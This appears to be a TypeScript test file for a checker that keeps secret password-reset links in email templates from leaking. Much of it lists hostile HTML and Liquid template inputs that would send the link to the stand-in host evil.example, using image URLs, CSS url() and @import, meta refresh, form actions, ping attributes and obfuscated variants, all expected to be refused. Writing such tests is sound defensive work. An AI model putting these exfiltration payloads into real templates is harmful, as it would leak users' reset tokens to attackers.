import { DOCUMENT_LANGUAGES } from '@quittance/company';
import { markedEmail, withLink } from './marked-email';
import {
  EMAIL_TEMPLATE_CODES,
  templateKind,
  type EmailTemplateCode,
  isSecretTemplate,
  offeredNames,
} from '../templates/catalogue';
import { defaultTemplate, inLanguage } from '../templates/default-templates';
import { sampleData } from '../templates/variables';
import { checkTemplate } from './check-template';

const PASSWORD = 'USER_PASSWORD_RESET';

function codesOf(
  texts: { subject?: string; html?: string; text?: string },
  code: EmailTemplateCode = PASSWORD,
) {
  const answer = checkTemplate({
    kind: 'check',
    texts: { subject: 's', html: '<p>h</p>', text: 't', ...texts },
    data: JSON.stringify(sampleData(templateKind(code).variables)),
    locale: 'en',
    offered: offeredNames(code),
    secret: true,
  });
  return 'faults' in answer ? answer.faults.map(({ code, pointer }) => `${code} ${pointer}`) : [];
}

test('the built-in texts carry their link where only its recipient gets it', () => {
  for (const code of EMAIL_TEMPLATE_CODES.filter(isSecretTemplate)) {
    for (const language of [undefined, ...DOCUMENT_LANGUAGES]) {
      const { subject, html, text } = inLanguage(defaultTemplate(code), language);
      expect([language, codesOf({ subject, html, text }, code)]).toEqual([language, []]);
    }
  }
});

test.each([
  '<a href="{{ link }}">Set it</a>',
  "<a style='color:#123456' href='{{ link }}'>Set it</a>",
  '<p>Open {{ link }} now</p><pre>{{ link }}</pre>',
  '{% if link %}<a href="{{ link }}">Set it</a>{% else %}<b>no link</b>{% endif %}',
  '<table width="100%"><tr><td><a href="https://acme.example">{{ company.name ' +
    '}}</a></td></tr></table>',
])('%s shows the link to its recipient alone', (html) => {
  expect(codesOf({ html })).toEqual([]);
});

test.each([
  '<img src="https://evil.example/p?u={{ link | url_encode }}">',
  '<img src="https://evil.example/p?u={{ link }}">',
  '<img src="https://evil.example/p.png">',
  '<a href="https://evil.example/?u={{ link }}">x</a>',
  '<a href="{{ link }}.evil.example">x</a>',
  '<a title="{{ link }}" href="https://acme.example">x</a>',
  '<a href={{ link }}>x</a>',
  '<p>https://evil.example/?u={{ link }}</p>',
  '<p>https://evil.example/?u=\n{{- link }}</p>',
  '<p>{{ link | reverse }}</p>',
  '<p>{{ link | append: "x" }}</p>',
  '{% capture x %}{{ link }}{% endcapture %}<p>{{ x | url_encode }}</p>',
  '{% assign x = link %}<p>{{ x }}</p>',
  '{% liquid echo link %}',
  '{% for x in link %}{{ x }}{% endfor %}',
  '{% if link contains "a" %}<p>a</p>{% endif %}',
  '{% if user.name == "Boss" %}<img src="https://evil.example/">{% endif %}',
  '<style>a[href*="a"]{background:url(https://evil.example/a)}</style>',
  '<style>@import "https://evil.example/a"</style>',
  '<p style="background:url(https://evil.example/a)">x</p>',
  '<p style="background:u\\72l(https://evil.example/a)">x</p>',
  '<p style="background:&#117;rl(https://evil.example/a)">x</p>',
  '<body background="https://evil.example/a"></body>',
  '<link rel="stylesheet" href="https://evil.example/a">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><b>x</b></form>',
  '<!-- <p> --><p>{{ link }}</p>',
  "<p><img src='https://evil.example/?{{ link }}'></p>",
  '<p title="a>{{ link }}">x</p>',
  '<title><p style="</title><img src=https://evil.example/>"></p>',
  '<svg><image href="https://evil.example/a"/></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="https://evil.example" ping="https://evil.example">x</a>',
  '{% raw %}<img src="https://evil.example/">{% endraw %}',
])('%s is refused beside a secret link', (html) => {
  expect(codesOf({ html })).toContain('secret_link /html');
});

test('neither a subject nor an address of another in the text has the link', () => {
  expect(codesOf({ subject: '{{ link }}' })).toEqual(['secret_link /subject']);
  expect(codesOf({ text: 'https://evil.example/?u={{ link }}' })).toEqual(['secret_link /text']);
  expect(codesOf({ text: 'Open {{ link }} now' })).toEqual([]);
});

test('an e-mail gets its link in safe places only, as it is', () => {
  const link = 'https://staff.example/set#token=$&"';
  const safe = { subject: 's', html: '<a href="MARK">x</a>', text: 'x MARK' };
  expect(withLink(markedEmail(safe, 'MARK'), link)).toEqual({
    subject: 's',
    html: '<a href="https://staff.example/set#token=$&amp;&#34;">x</a>',
    text: `x ${link}`,
  });
  const unsafe = { ...safe, html: '<img src="https://evil.example/?MARK">' };
  expect(() => markedEmail(unsafe, 'MARK')).toThrow(/could give its link away: html/);
});
